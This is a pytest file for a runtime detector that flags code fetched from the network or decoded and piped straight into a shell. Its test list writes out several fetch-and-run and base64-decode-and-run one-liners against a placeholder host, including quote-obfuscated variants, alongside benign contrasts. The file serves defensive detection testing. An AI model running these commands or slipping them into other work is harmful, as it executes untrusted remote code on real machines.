"""Code that is run as it arrives."""

from __future__ import annotations

import pytest

from periderm.engines.runtime import run_example
from periderm.engines.runtime.detectors.piped_code import DETECTOR
from periderm.engines.runtime.scene import runs, scene
from periderm.model.severity import Severity

LINES = [
    "curl -sSL h.example/x | sudo -E bash -",
    "wget -qO - h.example/x|sh",
    'bash -c "$(curl -fsSL h.example/x)"',
    "eval $(wget -qO- h.example/x)",
    ". <(curl -s h.example/x)",
    "curl h.example/x | python3 -",
    "echo aWQK|base64 -d|bash",
    "echo 6964 | xxd -r -p | sh",
    "bash <<< $(echo aWQK | base64 --decode)",
    "openssl enc -base64 -d <<< aWQK | sh",
    "ec''ho aWQK|ba\\se64 -d|s\"\"h",
    "echo di | rev | bash",
]
BENIGN = [
    "curl -s h.example/x | jq .a",
    "curl -s h.example/x | tar xz",
    "echo $X | base64 -d > /run/secret",
    "wget -qO- localhost/health || exit 1",
    "ps | grep bash",
    "curl -fsS h.example/x -o x && echo sh",
    "cat x | base64 -d | tee y",
]


@pytest.mark.parametrize("line", LINES)
def test_what_a_shell_is_told(line: str) -> None:
    """The common ways, also cut up by quotes."""
    assert run_example(DETECTOR, scene(runs(2, 1, "/usr/bin/bash", "bash", "-c", line)))


@pytest.mark.parametrize("line", BENIGN)
def test_what_is_only_data(line: str) -> None:
    """Fetched or decoded, and not run."""
    assert run_example(DETECTOR, scene(runs(2, 1, "/usr/bin/bash", "bash", "-c", line))) == []


def test_a_longer_pipeline() -> None:
    """Programs that only pass on are looked through."""
    said = run_example(
        DETECTOR,
        scene(
            runs(2, 900, "/usr/bin/curl", "curl", "-s", "h.example", pipes=(0, 4)),
            runs(3, 900, "/usr/bin/gzip", "gunzip", pipes=(4, 5)),
            runs(4, 900, "/bin/busybox", "ash", pipes=(5, 0)),
        ),
    )
    assert [alert.evidence["how"] for alert in said] == ["curl | gzip | ash"]


def test_by_the_situation() -> None:
    """A build step is said softly, decoding during a start is not."""
    line = ("/usr/bin/dash", "sh", "-c", "curl h.example | sh")
    assert [a.severity for a in run_example(DETECTOR, scene(runs(2, 1, *line, at=600.0)))] == [Severity.HIGH]
    installs = runs(2, 1, "/usr/bin/apt-get", "apt-get", "install", "x")
    assert [a.severity for a in run_example(DETECTOR, scene(installs, runs(3, 2, *line)))] == [Severity.LOW]


def test_whichever_end_starts_last() -> None:
    """The shell of a pipeline often starts before the program that feeds it."""
    shell = runs(3, 900, "/usr/bin/bash", "bash", pipes=(5, 0))
    fetch = runs(2, 900, "/usr/bin/curl", "curl", "-s", "h.example", pipes=(0, 5))
    decode = runs(4, 900, "/usr/bin/base64", "base64", "-d", pipes=(0, 5))
    assert run_example(DETECTOR, scene(shell, fetch))
    assert run_example(DETECTOR, scene(shell, decode))
    encode = runs(4, 900, "/usr/bin/base64", "base64", pipes=(0, 5))
    assert run_example(DETECTOR, scene(shell, encode)) == []
